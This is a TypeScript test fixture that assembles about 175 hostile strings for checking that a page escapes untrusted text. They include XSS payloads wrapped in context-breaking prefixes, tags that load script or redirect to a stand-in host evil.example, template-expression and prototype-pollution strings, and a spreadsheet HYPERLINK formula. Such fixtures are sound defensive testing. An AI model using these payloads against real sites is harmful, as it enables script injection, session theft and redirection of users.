/** Markup that runs script or sends a request as soon as a page takes it for its own. */
const markup = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text>x</text></a></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example/"><button autofocus>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<dialog open><img src=x onerror=alert(1)></dialog>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

/** Ways out of the place that a text may be put into. */
const escapes = ['', '">', "'>", '</td></tr></table>', '</textarea>', '</option></select>', '--><!-- -->']

/** Texts that a page may only show: 168 of markup, and some that disturb a line, a formula or an address. */
export const hostileTexts: readonly string[] = [
  ...escapes.flatMap((escape) => markup.map((text) => `${escape}${text}`)),
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '=HYPERLINK("https://evil.example","x")',
  '\u202Eevil text from right to left',
  'x'.repeat(2000),
  '__proto__',
]
